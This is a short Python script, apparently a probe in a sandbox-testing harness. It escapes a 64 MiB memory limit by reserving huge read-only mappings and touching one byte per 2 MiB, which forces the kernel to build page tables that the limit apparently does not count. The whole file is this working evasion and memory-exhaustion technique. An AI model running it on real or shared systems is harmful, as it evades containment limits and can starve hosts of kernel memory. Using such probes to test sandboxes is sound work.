import mmap

from attacker import escaped, finish, status

NORESERVE, MADV_NOHUGEPAGE, REACH = 0x4000, 15, 2 << 20
kept = []
for _ in range(12):
    try:
        kept.append(mmap.mmap(-1, 8 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | NORESERVE, prot=mmap.PROT_READ))
    except OSError:
        break
    kept[-1].madvise(MADV_NOHUGEPAGE)
    for at in range(0, 8 << 30, REACH):
        kept[-1][at]  # the page of zeros, which is nobody's, in a table of its own
    if int(status("VmPTE").split()[0]) > 160 << 10:
        escaped(f"{status('VmPTE')} of page tables under a limit of 64 MiB")
        break
finish()
